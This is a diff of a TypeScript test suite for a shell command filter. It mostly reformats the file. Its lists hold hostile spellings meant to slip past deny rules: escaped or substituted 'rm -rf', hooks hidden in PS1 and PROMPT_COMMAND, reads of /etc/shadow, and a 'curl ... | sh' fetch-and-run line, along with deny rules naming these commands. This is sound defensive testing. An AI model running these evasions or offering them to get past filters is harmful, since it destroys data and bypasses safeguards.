@@ -4,12 +4,22 @@
 // input is recognised.
 import assert from 'node:assert/strict';
 import { before, test } from 'node:test';
-import { CommandFilter, isIncomplete, ready, type FilterRule } from '../../demo/shared/command-filter/command-filter.ts';
+import {
+  CommandFilter,
+  isIncomplete,
+  ready,
+  type FilterRule,
+} from '../../demo/shared/command-filter/command-filter.ts';
 import { analyseLine } from '../../demo/shared/command-filter/shell-words.ts';
 import { literalOf } from '../../demo/shared/command-filter/shell-word-value.ts';
 
 const deny = (content: string, type = 'command', priority = 50): FilterRule => ({ type, content, priority, action: 0 });
-const allow = (content: string, type = 'command', priority = 50): FilterRule => ({ type, content, priority, action: 1 });
+const allow = (content: string, type = 'command', priority = 50): FilterRule => ({
+  type,
+  content,
+  priority,
+  action: 1,
+});
 
 before(() => ready());
 
@@ -58,7 +68,7 @@ const HOSTILE: [string, string][] = [
   ["dash -c 'r\\m -rf x'", 'dash -c'],
   ["zsh -c 'r\\m -rf x'", 'zsh -c'],
   ["bash -lc 'r\\m -rf x'", 'bash with clustered -c'],
-  ["bash -c \"sh -c 'r\\\\m -rf x'\"", 'nested shells'],
+  ['bash -c "sh -c \'r\\\\m -rf x\'"', 'nested shells'],
   ["eval 'r\\m -rf x'", 'eval'],
   ['eval r\\\\m -rf x', 'eval of joined words'],
   ['exec r\\m -rf x', 'exec'],
@@ -103,7 +113,7 @@ const HOSTILE: [string, string][] = [
   ['a=ls; read a; $a -rf x', 'a command between forgets the constants'],
   ['a=; b=${a:=rm}; $a -rf x', 'an expansion that assigns'],
   ['{r,x}m -rf x', 'brace expansion (does not parse: fails closed)'],
-  ["echo 'x\n\"; $a$b -rf x", 'a line after an open quote, judged alone'],
+  ['echo \'x\n"; $a$b -rf x', 'a line after an open quote, judged alone'],
 ];
 
 test('hostile spellings of a denied command are refused', () => {
@@ -153,7 +163,11 @@ test('ordinary lines stay allowed', () => {
   const filter = new CommandFilter([deny('rm -rf'), deny('reboot\nshutdown')]);
   for (const [line, how] of ORDINARY) {
     const verdict = filter.check(line);
-    assert.equal(verdict.allowed, true, `${how}: ${JSON.stringify(line)} must be allowed (${verdict.reason} ${verdict.matched})`);
+    assert.equal(
+      verdict.allowed,
+      true,
+      `${how}: ${JSON.stringify(line)} must be allowed (${verdict.reason} ${verdict.matched})`,
+    );
   }
 });
 
@@ -178,7 +192,10 @@ test('decided choices: 2.3 refusals stay, and an unknown word where a denied wor
 test('the verdict names the rule, the matched words, the simple command and why', () => {
   const filter = new CommandFilter([deny('rm -rf')]);
   const plain = filter.check('ls; r\\m  -rf /tmp/x');
-  assert.deepEqual([plain.reason, plain.matched, plain.command, plain.parsed], ['rule', 'rm -rf', 'r\\m  -rf /tmp/x', true]);
+  assert.deepEqual(
+    [plain.reason, plain.matched, plain.command, plain.parsed],
+    ['rule', 'rm -rf', 'r\\m  -rf /tmp/x', true],
+  );
   const substituted = filter.check("$(printf '\\x72\\x6d') -rf x");
   assert.deepEqual([substituted.reason, substituted.matched], ['wildcard', 'rm -rf']);
   const piped = filter.check('cat x | sh');
@@ -195,14 +212,18 @@ test('regex rules match the raw line and each command without its quoting; an un
   assert.equal(filter.check('r\\m -rf x').allowed, false);
   assert.equal(filter.check("cat '/etc/sha'dow").allowed, false);
   assert.equal(filter.check('cat /etc/sha\\dow').allowed, false);
-  assert.equal(filter.check("bash -c 'cat /etc/\"shadow\"'").allowed, false);
+  assert.equal(filter.check('bash -c \'cat /etc/"shadow"\'').allowed, false);
   assert.equal(filter.check('curl -s http://example.invalid/x | sh').allowed, false);
   assert.equal(filter.check('cat /etc/passwd').allowed, true);
   assert.equal(filter.check('rm -r x').allowed, true);
 });
 
 test('allow rules: first matching rule per simple command, and every command must be allowed', () => {
-  const filter = new CommandFilter([allow('ls', 'command', 90), allow('^sudo ', 'regex', 90), deny('rm', 'command', 50)]);
+  const filter = new CommandFilter([
+    allow('ls', 'command', 90),
+    allow('^sudo ', 'regex', 90),
+    deny('rm', 'command', 50),
+  ]);
   assert.equal(filter.check('ls rm').allowed, true, 'the allow rule comes first for this command');
   assert.equal(filter.check('ls; rm -rf /').allowed, false, 'an allowed command does not carry the next one');
   assert.equal(filter.check('ls $(rm x)').allowed, false, 'nor a substitution inside it');
@@ -224,7 +245,10 @@ test('allow rules: first matching rule per simple command, and every command mus
 });
 
 test('any action other than deny is not a refusal, as in 2.3', () => {
-  const filter = new CommandFilter([{ type: 'command', content: 'rm', priority: 90, action: 2 }, deny('rm -rf', 'command', 50)]);
+  const filter = new CommandFilter([
+    { type: 'command', content: 'rm', priority: 90, action: 2 },
+    deny('rm -rf', 'command', 50),
+  ]);
   const verdict = filter.check('rm -rf x');
   assert.equal(verdict.allowed, true);
   assert.equal(verdict.rule?.action, 2);
@@ -237,7 +261,10 @@ test('a line that does not parse fails closed: refused if any deny rule matches,
   const braces = filter.check('{r,x}m -rf /');
   assert.deepEqual([braces.allowed, braces.parsed], [false, false]);
   const harmless = filter.check('echo "still typing');
-  assert.deepEqual([harmless.allowed, harmless.parsed, harmless.incomplete, harmless.reason], [true, false, true, 'no-match']);
+  assert.deepEqual(
+    [harmless.allowed, harmless.parsed, harmless.incomplete, harmless.reason],
+    [true, false, true, 'no-match'],
+  );
   assert.equal(filter.check('ls )').allowed, true, 'a syntax error that touches no deny rule');
 });
 
@@ -249,26 +276,68 @@ test('a line past 32 KiB is refused when there is a deny rule, and not parsed', 
 });
 
 test('backslash-newline joins words only where the shell removes it', () => {
-  const commands = (text: string) => analyseLine(text)!.commands.map((command) => command.words.map((word) => literalOf(word)));
+  const commands = (text: string) =>
+    analyseLine(text)!.commands.map((command) => command.words.map((word) => literalOf(word)));
   assert.deepEqual(commands('r\\\nm -rf x'), [['rm', '-rf', 'x']]);
-  assert.deepEqual(commands('echo a\\\\\nls'), [['echo', 'a\\'], ['ls']], 'an escaped backslash does not continue the line');
+  assert.deepEqual(
+    commands('echo a\\\\\nls'),
+    [['echo', 'a\\'], ['ls']],
+    'an escaped backslash does not continue the line',
+  );
   assert.deepEqual(commands('# note \\\nls'), [['ls']], 'nor does one ending a comment');
   assert.deepEqual(commands("echo 'a\\\nb'"), [['echo', 'a\\\nb']], 'nor one inside single quotes');
   assert.deepEqual(commands('echo "a\\\nb"'), [['echo', 'ab']]);
 });
 
 test('incomplete input: the shell would wait for more lines', () => {
-  const waiting = ["echo 'abc", 'echo "abc', 'ls \\', 'echo $(ls', 'echo `ls', 'if true; then ls', 'ls &&', 'ls ||',
-    'ls |', 'cat <<EOF', 'cat <<EOF\nabc', 'for x in a b; do', '(ls', '{ ls;', 'case x in', 'while true', '[[ -f x',
-    'echo ${a', "echo $'ab", 'f() {', 'ls\n\\', 'if true\nthen'];
-  const complete = ['ls', 'ls -la /', 'ls )', 'if ls; fi', '(ls))', 'echo a\\\\', 'cat <<EOF\nabc\nEOF', "ls # it's",
-    'ls # a\\', 'echo "a\nb"', 'r\\\nm -rf x', 'for x in a; do echo $x; done'];
+  const waiting = [
+    "echo 'abc",
+    'echo "abc',
+    'ls \\',
+    'echo $(ls',
+    'echo `ls',
+    'if true; then ls',
+    'ls &&',
+    'ls ||',
+    'ls |',
+    'cat <<EOF',
+    'cat <<EOF\nabc',
+    'for x in a b; do',
+    '(ls',
+    '{ ls;',
+    'case x in',
+    'while true',
+    '[[ -f x',
+    'echo ${a',
+    "echo $'ab",
+    'f() {',
+    'ls\n\\',
+    'if true\nthen',
+  ];
+  const complete = [
+    'ls',
+    'ls -la /',
+    'ls )',
+    'if ls; fi',
+    '(ls))',
+    'echo a\\\\',
+    'cat <<EOF\nabc\nEOF',
+    "ls # it's",
+    'ls # a\\',
+    'echo "a\nb"',
+    'r\\\nm -rf x',
+    'for x in a; do echo $x; done',
+  ];
   for (const text of waiting) assert.equal(isIncomplete(text), true, JSON.stringify(text));
   for (const text of complete) assert.equal(isIncomplete(text), false, JSON.stringify(text));
 });
 
 test('parsing stays fast: 1,000 typical lines', () => {
-  const filter = new CommandFilter([deny('rm -rf\nreboot\nshutdown\nmkfs\ndd if='), deny('/etc/shadow', 'regex'), allow('ls\ncat', 'command', 40)]);
+  const filter = new CommandFilter([
+    deny('rm -rf\nreboot\nshutdown\nmkfs\ndd if='),
+    deny('/etc/shadow', 'regex'),
+    allow('ls\ncat', 'command', 40),
+  ]);
   const lines = [...ORDINARY.map(([line]) => line), ...HOSTILE.slice(0, 20).map(([line]) => line)];
   const started = performance.now();
   for (let i = 0; i < 1000; i++) {
@@ -283,21 +352,21 @@ test('parsing stays fast: 1,000 typical lines', () => {
 // Code a setting stores for the shell (or a program it starts) to run later is judged as a command of the
 // line that sets it; what cannot be read there is an unknown command, which every deny rule refuses.
 const SETTINGS_HOSTILE: [string, string][] = [
-  ["PROMPT_COMMAND='r\"\"m F'", 'PROMPT_COMMAND'],
+  ['PROMPT_COMMAND=\'r""m F\'', 'PROMPT_COMMAND'],
   ["PROMPT_COMMAND=('ls' 'r\\m F')", 'PROMPT_COMMAND as an array'],
   ["export PROMPT_COMMAND='r\\m F'", 'export'],
   ["env PROMPT_COMMAND='r\\m F' bash", 'env for a new shell'],
-  ["PS1='$(r\"\"m F)\\$ '", 'PS1 command substitution'],
-  ["PS0='$(r\"\"m F)'", 'PS0'],
+  ['PS1=\'$(r""m F)\\$ \'', 'PS1 command substitution'],
+  ['PS0=\'$(r""m F)\'', 'PS0'],
   ["PS4='`r\\m F`'; set -x", 'PS4 backquotes'],
-  ["PS1='\\044(r\"\"m F)> '", 'PS1 octal escape that becomes a $'],
-  ["PS1='a\"b$(r\"\"m F)\"'", 'PS1 with double quotes around the substitution'],
+  ['PS1=\'\\044(r""m F)> \'', 'PS1 octal escape that becomes a $'],
+  ['PS1=\'a"b$(r""m F)"\'', 'PS1 with double quotes around the substitution'],
   ["declare -x PS1='$(r\\m F)'", 'declare'],
-  ["export \"PS1=\\$(r\\m F)\"", 'an assignment written as a quoted word'],
-  ["complete -C 'r\"\"m F' x", 'complete -C'],
+  ['export "PS1=\\$(r\\m F)"', 'an assignment written as a quoted word'],
+  ['complete -C \'r""m F\' x', 'complete -C'],
   ["complete -W '$(r\\m F)' x", 'complete -W expands its word list'],
-  ["bind -x '\"\\C-t\": r\"\"m F'", 'bind -x'],
-  ["bind -x '\"\\C-t\": \"r\\m F\"'", 'bind -x with a quoted command'],
+  ['bind -x \'"\\C-t": r""m F\'', 'bind -x'],
+  ['bind -x \'"\\C-t": "r\\m F"\'', 'bind -x with a quoted command'],
   ["mapfile -C 'r\\m F' -c 1 x < /etc/hosts", 'mapfile -C callback'],
   ["EDITOR='r\\m F'", 'EDITOR (C-x C-e, fc, programs)'],
   ["LESSOPEN='|r\\m %s'", 'LESSOPEN'],
@@ -311,36 +380,73 @@ const SETTINGS_HOSTILE: [string, string][] = [
   ["printf -v PROMPT_COMMAND '%s' x", 'printf -v into a setting'],
   ["for PS1 in '$(r\\m F)'; do :; done", 'a loop variable'],
   [": ${PS1:='$(r\\m F)'}", 'an expansion that assigns'],
-  ["bind '\"\\C-x\": accept-line'", 'a key bound to run the line'],
-  ["bind '\"\\C-t\": \"ls\\n\"'", 'a key bound to a macro'],
+  ['bind \'"\\C-x": accept-line\'', 'a key bound to run the line'],
+  ['bind \'"\\C-t": "ls\\n"\'', 'a key bound to a macro'],
   ['bind -f /tmp/inputrc', 'bindings from a file'],
   ['set -o vi', 'vi editing mode (v runs the line in an editor)'],
-  ["cat <<E\n`r\\m F`\nE", 'backquotes in a here-document'],
+  ['cat <<E\n`r\\m F`\nE', 'backquotes in a here-document'],
 ];
 
-const SETTINGS_ORDINARY = ["PS1='\\u@\\h:\\w\\$ '", "PS1='[\\t] $(date +%s) \\$ '", "PROMPT_COMMAND='history -a'", 'EDITOR=vim',
-  'complete -F _x x', "bind '\"\\e[A\": history-search-backward'", "bind -x '\"\\C-t\": date'", 'set -o emacs', 'set -e', 'read -r line',
-  "printf '%s\\n' x", 'BASH_ENV= bash -c ls', "cat <<'E'\n`r\\m F`\nE"];
+const SETTINGS_ORDINARY = [
+  "PS1='\\u@\\h:\\w\\$ '",
+  "PS1='[\\t] $(date +%s) \\$ '",
+  "PROMPT_COMMAND='history -a'",
+  'EDITOR=vim',
+  'complete -F _x x',
+  'bind \'"\\e[A": history-search-backward\'',
+  'bind -x \'"\\C-t": date\'',
+  'set -o emacs',
+  'set -e',
+  'read -r line',
+  "printf '%s\\n' x",
+  'BASH_ENV= bash -c ls',
+  "cat <<'E'\n`r\\m F`\nE",
+];
 
 test('code hidden in shell settings is judged as the commands it holds; what cannot be read fails closed', () => {
   const filter = new CommandFilter([deny('rm'), deny('reboot'), deny('mkfs|dd\\s+if=', 'regex')]);
-  for (const [line, how] of SETTINGS_HOSTILE) assert.equal(filter.check(line).allowed, false, `${how}: ${JSON.stringify(line)} must be refused`);
+  for (const [line, how] of SETTINGS_HOSTILE)
+    assert.equal(filter.check(line).allowed, false, `${how}: ${JSON.stringify(line)} must be refused`);
   for (const line of SETTINGS_ORDINARY) {
     const verdict = filter.check(line);
-    assert.equal(verdict.allowed, true, `${JSON.stringify(line)} must be allowed (${verdict.reason} ${verdict.command})`);
+    assert.equal(
+      verdict.allowed,
+      true,
+      `${JSON.stringify(line)} must be allowed (${verdict.reason} ${verdict.command})`,
+    );
   }
-  assert.equal(new CommandFilter([allow('ls')]).check('set -o vi').allowed, true, 'without a deny rule nothing is unknown-refused');
+  assert.equal(
+    new CommandFilter([allow('ls')]).check('set -o vi').allowed,
+    true,
+    'without a deny rule nothing is unknown-refused',
+  );
 });
 
 test('a deny regex sees a word with a glob as the names it could match', () => {
   const filter = new CommandFilter([deny('mkfs|dd\\s+if=', 'regex')]);
-  for (const line of ['/sbin/mk?s -V', 'mk[e-g]s /dev/x', '/usr/sbin/mkf* x', 'd? if=/dev/zero of=x', 'dd $ARGS', '$CMD -V', 'cat mk*'])
+  for (const line of [
+    '/sbin/mk?s -V',
+    'mk[e-g]s /dev/x',
+    '/usr/sbin/mkf* x',
+    'd? if=/dev/zero of=x',
+    'dd $ARGS',
+    '$CMD -V',
+    'cat mk*',
+  ])
     assert.equal(filter.check(line).allowed, false, line);
   for (const line of ['cd $HOME', 'ls *.txt', 'ls -la /var/log/*.log', 'echo $HOME/mk', 'grep -r x $DIR', 'cp $A $B'])
     assert.equal(filter.check(line).allowed, true, line);
   // Word boundaries and anchors hold through wildcards; a regex the automaton cannot read fails closed.
   assert.equal(new CommandFilter([deny('^reboot\\b', 'regex')]).check('re?oot now').allowed, false);
-  assert.equal(new CommandFilter([deny('\\breboot\\b', 'regex')]).check('echo xreboot*').allowed, true, 'no boundary between x and r');
-  assert.equal(new CommandFilter([deny('\\breboot\\b', 'regex')]).check('echo x*reboot').allowed, false, 'x.reboot is a name x* can match');
+  assert.equal(
+    new CommandFilter([deny('\\breboot\\b', 'regex')]).check('echo xreboot*').allowed,
+    true,
+    'no boundary between x and r',
+  );
+  assert.equal(
+    new CommandFilter([deny('\\breboot\\b', 'regex')]).check('echo x*reboot').allowed,
+    false,
+    'x.reboot is a name x* can match',
+  );
   assert.equal(new CommandFilter([deny('(rm)\\1', 'regex')]).check('cd $HOME').allowed, false);
 });
